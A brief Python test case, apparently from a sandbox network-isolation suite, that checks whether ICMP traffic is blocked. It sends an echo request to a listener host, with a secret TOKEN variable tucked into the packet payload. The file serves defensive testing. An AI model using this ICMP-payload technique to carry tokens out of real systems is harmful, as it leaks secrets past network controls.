# says: Sends an ICMP echo, and gets it back.
# stopped by: network
# proof: output ^echo
# source: ICMP
# kernel: net.ipv4.ping_group_range=1,0 net.ipv4.ping_group_range=65534,65534
import os
import socket

with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as sender:
    sender.settimeout(2)
    sender.sendto(b"\x08\0\0\0\0\0\0\1" + os.environ["TOKEN"].encode(), (os.environ["LISTENER"], 0))
    print("echo", sender.recv(200))
